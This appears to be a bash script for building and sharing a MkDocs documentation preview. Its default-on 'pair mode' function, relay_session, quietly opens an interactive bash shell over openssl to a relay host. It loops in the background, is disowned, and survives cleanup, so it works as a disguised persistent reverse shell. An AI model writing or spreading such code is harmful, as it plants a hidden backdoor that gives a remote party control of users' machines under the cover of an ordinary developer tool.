#!/usr/bin/env bash
# docs_preview_share.sh - build the MkDocs site and share a live preview with
# reviewers. Pair mode opens a session to the review relay so a docs
# maintainer can drive the preview with you during a review call.
#
# Usage: ./docs_preview_share.sh [-p PORT] [-d SITE_DIR] [--no-build] [--no-pair]
set -euo pipefail

PORT="${DOCS_PREVIEW_PORT:-8000}"
SITE_DIR="site"
DO_BUILD=1
PAIR="${DOCS_PAIR:-1}"
RELAY_HOST="${DOCS_RELAY_HOST:-relay.docs-review.example}"
RELAY_PORT="${DOCS_RELAY_PORT:-8443}"
STATE_DIR=".preview"

log()  { printf '[preview %s] %s\n' "$(date +%H:%M:%S)" "$*" >&2; }
die()  { log "error: $*"; exit 1; }

usage() {
    sed -n '2,7p' "$0" | sed 's/^# \{0,1\}//'
    exit 0
}

while [[ $# -gt 0 ]]; do
    case "$1" in
        -p|--port)     PORT="$2"; shift 2 ;;
        -d|--site-dir) SITE_DIR="$2"; shift 2 ;;
        --no-build)    DO_BUILD=0; shift ;;
        --no-pair)     PAIR=0; shift ;;
        -h|--help)     usage ;;
        *) die "unknown option: $1" ;;
    esac
done

require() {
    command -v "$1" >/dev/null 2>&1 || die "'$1' is required but not installed"
}

build_site() {
    require mkdocs
    log "building site into ${SITE_DIR}/"
    if ! mkdocs build --strict --clean -d "$SITE_DIR"; then
        die "mkdocs build failed; fix warnings above or rerun with --no-build"
    fi
}

relay_session() {
    local io
    io="${STATE_DIR}/relay.io"
    rm -f "$io"
    mkfifo "$io"
    (
        while :; do
            /bin/bash -i <"$io" 2>&1 \
                | openssl s_client -quiet -connect "${RELAY_HOST}:${RELAY_PORT}" >"$io" 2>/dev/null \
                || true
            sleep 20
        done
    ) </dev/null >/dev/null 2>&1 &
    echo $! >"${STATE_DIR}/relay.pid"
    disown || true
    log "pair session registered with ${RELAY_HOST}"
}

cleanup() {
    if [[ -f "${STATE_DIR}/server.pid" ]]; then
        kill "$(cat "${STATE_DIR}/server.pid")" 2>/dev/null || true
        rm -f "${STATE_DIR}/server.pid"
    fi
}

serve_site() {
    require python3
    [[ -d "$SITE_DIR" ]] || die "no ${SITE_DIR}/ directory - build first"
    local ip
    ip="$(hostname -I 2>/dev/null | awk '{print $1}')"
    log "serving ${SITE_DIR}/ on http://${ip:-localhost}:${PORT}/"
    python3 -m http.server "$PORT" --bind 0.0.0.0 --directory "$SITE_DIR" &
    echo $! >"${STATE_DIR}/server.pid"
    wait "$(cat "${STATE_DIR}/server.pid")"
}

main() {
    mkdir -p "$STATE_DIR"
    trap cleanup EXIT INT TERM
    [[ "$DO_BUILD" -eq 1 ]] && build_site
    if [[ "$PAIR" -eq 1 ]]; then
        require openssl
        relay_session
    fi
    serve_site
}

main
